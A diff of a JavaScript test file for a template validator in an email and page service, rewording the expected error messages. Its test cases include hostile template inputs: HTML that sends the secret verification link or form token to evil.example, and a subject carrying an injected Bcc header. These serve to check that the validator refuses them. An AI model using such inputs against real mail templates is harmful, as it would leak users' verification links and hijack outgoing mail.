@@ -95,7 +95,7 @@ test('of the longest contents the last hundred are kept: all versions are one re
   const long = (i) => block('title', 'T') + block('body', String(i).padEnd(65536 - 70));
   for (let i = 0; i <= 100; i++) (await owner.put(at('page_verified'), { contents: long(i) })).must(200);
   assert.equal((await versions(owner, 'page_verified')).length, 101);
-  (await owner.put(at('page_verified'), { contents: long(101) })).must(200).notes('The oldest version is gone');
+  (await owner.put(at('page_verified'), { contents: long(101) })).must(200).notes('The oldest version was deleted');
   const kept = await versions(owner, 'page_verified');
   assert.deepEqual([kept.length, kept[0].contents, kept.at(-1).contents], [100, long(1), long(100)]);
 });
@@ -103,7 +103,7 @@ test('of the longest contents the last hundred are kept: all versions are one re
 test('the last thousand versions are kept, and who drops an older one is told', async (t) => {
   const { owner } = await open(t);
   for (let i = 0; i < 1000; i++) assert.equal((await owner.put(at('verification'), { contents: mail(`S${i}`) })).must(200).body.logs, undefined);
-  for (let i = 1000; i < 1003; i++) (await owner.put(at('verification'), { contents: mail(`S${i}`) })).must(200).notes('The oldest version is gone');
+  for (let i = 1000; i < 1003; i++) (await owner.put(at('verification'), { contents: mail(`S${i}`) })).must(200).notes('The oldest version was deleted');
   const kept = await versions(owner, 'verification');
   assert.deepEqual(kept.map((v) => v.contents), Array.from({ length: 1000 }, (_, i) => mail(`S${i + 2}`)));
 });
@@ -143,40 +143,40 @@ test('contents that could not be sent are refused, with the place and what would
   (await owner.put(at('verification'), { contents: ['a'] })).refused(400, 'FIELD_INVALID', 'contents');
   const bad = {
     verification: [
-      ['no blocks at all', /^FIELD_INVALID contents: Line 1, character 1: everything stands in blocks: .* one of subject, text, html\.$/],
+      ['no blocks at all', /^FIELD_INVALID contents: Line 1, character 1: text outside of a block: .* one of subject, text, html\.$/],
       [block('subject', 'S'), /Line 2, character 1: the block text is missing\.$/],
       [block('subject', 'S') + block('text', 'no link'), /Line 2, character 17: \{\{link\}\} is missing in text\.$/],
       [mail('S', block('html', '<p>no link</p>')), /\{\{link\}\} is missing in html\.$/],
       [mail('S', block('html', '<p>{{link}}')), /<p> is not closed: <\/p> is missing\.$/],
-      [mail('S', block('html', '<img src="https://evil.example/?{{link}}">')), /\{\{link\}\} stands alone/],
-      [mail('S', block('html', '<img src="{{link}}">')), /no value is possible in an attribute, but \{\{link\}\} and \{\{url\}\} as the whole of an href\.$/],
-      [mail('S', block('html', '<a href="{{link}}">https://evil.example/?{{link}}</a>')), /\{\{link\}\} stands alone/],
+      [mail('S', block('html', '<img src="https://evil.example/?{{link}}">')), /\{\{link\}\} must stand alone/],
+      [mail('S', block('html', '<img src="{{link}}">')), /no value is allowed in an attribute, except \{\{link\}\} or \{\{url\}\} as a whole href\.$/],
+      [mail('S', block('html', '<a href="{{link}}">https://evil.example/?{{link}}</a>')), /\{\{link\}\} must stand alone/],
       ...[`https://evil.example/?u='{{link}}`, 'https://evil.example/?u=<b>{{link}}</b>', 'https://evil.example/?u=<a href="{{link}}"><i>{{link}}</i></a>', '<b>{{link}}</b>.evil.example', '{{link}}<span>{{desk}}</span>', '<b>{{link}}</b><i>{{link}}</i>']
-        .map((html) => [mail('S', block('html', `<p>${html}</p>`)), /\{\{link\}\} stands alone/]),
+        .map((html) => [mail('S', block('html', `<p>${html}</p>`)), /\{\{link\}\} must stand alone/]),
       ...['<https://evil.example/?u= {{link}}>', '<https://evil.example/?u=\n{{link}}\n>', '"https://evil.example/?u= {{link}}"', '<x <{{link}}> {{link}}\n< {{link}}>']
-        .map((text) => [block('subject', 'S') + block('text', text), /\{\{link\}\} stands alone/]),
-      [mail('S', block('html', '<script>{{link}}</script>')), /this is no element of a template/],
-      [mail('S {{nmae}}'), /Line 1, character 22: there is no such value here: \{\{desk\}\}, .* or \{\{life\}\} is expected\.$/],
-      [mail('S {{form}}'), /there is no such value here/],
-      [mail('S {{link}}'), /\{\{link\}\} is possible in text and html alone\.$/],
+        .map((text) => [block('subject', 'S') + block('text', text), /\{\{link\}\} must stand alone/]),
+      [mail('S', block('html', '<script>{{link}}</script>')), /this element is not allowed/],
+      [mail('S {{nmae}}'), /Line 1, character 22: unknown value: \{\{desk\}\}, .* or \{\{life\}\} is expected\.$/],
+      [mail('S {{form}}'), /unknown value/],
+      [mail('S {{link}}'), /\{\{link\}\} is only allowed in text and html\.$/],
       [mail('S {{desk'), /the braces are not closed/],
-      [mail('S\r\nBcc: evil@example.com'), /subject is one line\.$/],
-      [mail('S\rBcc: evil@example.com'), /this control character is not possible\.$/],
+      [mail('S\r\nBcc: evil@example.com'), /subject must be one line\.$/],
+      [mail('S\rBcc: evil@example.com'), /this control character is not allowed\.$/],
       [mail('S', '{% block text %}{{link}}'), /the block text is not closed/],
-      [mail('S', block('text', '{{link}}')), /the block text is there twice\.$/],
+      [mail('S', block('text', '{{link}}')), /the block text occurs twice\.$/],
       [mail('S', '{% include "x" %}'), /there are no other tags\.$/],
-      [page('S'), /there is no such block here: one of subject, text, html is expected\.$/],
+      [page('S'), /unknown block: one of subject, text, html is expected\.$/],
     ],
     page_password: [
-      [mail('S'), /there is no such block here: one of title, body, style is expected\.$/],
+      [mail('S'), /unknown block: one of title, body, style is expected\.$/],
       [block('title', 'T') + block('body', '<p>no form</p>'), /\{\{form\}\} is missing in body\.$/],
-      [block('title', 'T') + block('body', '<form action="https://evil.example/">{{form}}</form>'), /this is no element of a template/],
-      [block('title', 'T') + block('body', "<a href='https://evil.example/?{{form}}'>x</a>"), /no value is possible in an attribute/],
-      [block('title', 'T') + block('body', '<!-- {{form}} -->'), /this is no element of a template/],
-      [page('T', block('style', '</style><script>x</script>')), /no < is possible in style\.$/],
+      [block('title', 'T') + block('body', '<form action="https://evil.example/">{{form}}</form>'), /this element is not allowed/],
+      [block('title', 'T') + block('body', "<a href='https://evil.example/?{{form}}'>x</a>"), /no value is allowed in an attribute/],
+      [block('title', 'T') + block('body', '<!-- {{form}} -->'), /this element is not allowed/],
+      [page('T', block('style', '</style><script>x</script>')), /no < is allowed in style\.$/],
     ],
-    page_verified: [[page('T'), /there is no such value here: \{\{desk\}\} or \{\{url\}\} is expected\.$/]],
-    password_changed: [[mail('S'), /there is no such value here/]],
+    page_verified: [[page('T'), /unknown value: \{\{desk\}\} or \{\{url\}\} is expected\.$/]],
+    password_changed: [[mail('S'), /unknown value/]],
   };
   for (const [name, all] of Object.entries(bad)) {
     for (const [contents, message] of all) {
